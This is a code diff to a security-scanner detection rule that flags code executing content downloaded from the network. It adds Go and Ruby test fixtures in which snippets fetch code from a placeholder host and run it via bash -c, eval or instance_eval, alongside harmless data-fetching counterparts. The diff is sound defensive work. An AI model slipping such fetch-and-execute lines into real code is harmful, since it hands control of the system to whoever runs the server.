@@ -10,7 +10,7 @@ export default defineRule({
   category: "suspicious_network",
   severity: "critical",
   confidence: "high",
-  languages: ["python", "javascript", "shell"],
+  languages: ["python", "javascript", "shell", "go", "ruby"],
   title: "code from the network is executed",
   why: "Whoever controls the server decides what runs here, today and tomorrow.",
   fix: "Ship the code with the skill.",
@@ -55,11 +55,22 @@ export default defineRule({
       "skill.js":
         'require("https").get(url, (res) => {\n  let code = "";\n  res.on("data", (part) => (code += part));\n  res.on("end", () => new Function(code)());\n});',
     },
+    {
+      "main.go":
+        'package main\n\nimport (\n\t"io"\n\t"net/http"\n\t"os/exec"\n)\n\nfunc main() {\n\tres, err := http.Get("https://files.example/i")\n\tif err == nil {\n\t\tbody, _ := io.ReadAll(res.Body)\n\t\texec.Command("bash", "-c", string(body)).Run()\n\t}\n}',
+    },
+    { "a.rb": 'require "open-uri"\neval(URI.open("https://files.example/a.rb").read)' },
+    { "a.rb": 'require "net/http"\ncode = Net::HTTP.get(URI("https://files.example/a.rb"))\ninstance_eval(code)' },
   ],
   good: [
     'import requests\nprint(requests.get("https://example.com/a.py").text)',
     'import os\nos.system("curl -s https://example.com/data.json -o data.json")',
     "import requests, json\njson.loads(requests.get(u).text)",
     { "skill.js": "fetch(url).then((r) => r.json()).then(render);" },
+    {
+      "main.go":
+        'package main\n\nimport (\n\t"encoding/json"\n\t"net/http"\n)\n\nfunc main() {\n\tres, err := http.Get("https://api.example/v1")\n\tif err == nil {\n\t\tjson.NewDecoder(res.Body).Decode(&v)\n\t}\n}',
+    },
+    { "a.rb": 'require "json"\nrequire "net/http"\nputs JSON.parse(Net::HTTP.get(URI("https://api.example/v1")))' },
   ],
 });
